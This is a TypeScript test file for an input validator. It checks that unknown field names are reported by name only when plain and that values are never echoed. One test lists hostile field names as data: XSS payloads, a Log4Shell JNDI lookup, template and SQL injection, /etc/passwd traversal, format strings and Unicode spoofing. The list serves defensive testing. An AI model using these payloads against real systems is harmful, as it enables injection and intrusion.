/** Refusals of input: they name the field where its name is plain, and repeat no other part of the input. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { z } from 'zod';
import { Failure } from '../lib/failure.ts';
import { accept } from './input.ts';

const SHAPE = z.strictObject({
  title: z.string().optional(),
  policy: z.strictObject({ windows: z.array(z.strictObject({ start: z.string() })) }).optional(),
});

/** Returns reason and sentence of the refusal. */
function refusal(value: unknown): [string | undefined, string] {
  try {
    accept(SHAPE, value);
  } catch (error) {
    assert.ok(error instanceof Failure);
    return [error.reason, error.message];
  }
  throw new Error('it was accepted');
}

test('an unknown field is named, where it is', () => {
  for (const [value, sentence] of [
    [{ titel: 'x' }, 'unknown field: titel'],
    [{ __typename: 'x' }, 'unknown field: __typename'],
    [{ title: 'x', policy: { windows: [], remote: true } }, 'unknown field: policy.remote'],
    [{ policy: { windows: [{ start: '8', End: '9' }] } }, 'unknown field: policy.windows.0.End'],
    [{ titel: 'x', page_2: 1 }, 'unknown fields: titel, page_2'],
    [{ a: 1, b: 2, c: 3, d: 4 }, 'unknown fields: a, b, c'],
    [{ ['n'.repeat(40)]: 1 }, `unknown field: ${'n'.repeat(40)}`],
    [{ constructor: 1 }, 'unknown field: constructor'],
  ] as const)
    assert.deepEqual(refusal(value), ['field-unknown', sentence]);
});

test('a name that is not plain is not repeated, and neither is any value', () => {
  const hostile = [
    'n'.repeat(41),
    '',
    ' ',
    'a b',
    'a.b',
    'a-b',
    '1a',
    'a\n',
    '\na',
    'a\u0000',
    '\u001b[31mred',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '${jndi:ldap://example.org/a}',
    '{{7*7}}',
    '%n%s',
    '/etc/passwd',
    '../../etc/passwd',
    'naïve',
    'аdmin',
    'ａ',
    '\u202eevil',
    'a\u200bb',
    "'; DROP TABLE items; --",
    'toString()',
  ];
  for (const name of hostile)
    assert.deepEqual(refusal({ [name]: 'a secret value' }), [
      'field-unknown',
      'there is a field that is not known here',
    ]);
  assert.deepEqual(refusal(Object.fromEntries([...hostile, 'titel'].map((name) => [name, 'a secret value']))), [
    'field-unknown',
    'unknown field: titel',
  ]);
  assert.deepEqual(refusal({ title: { secret: 1 } }), ['field-invalid', 'title: expected string']);
});
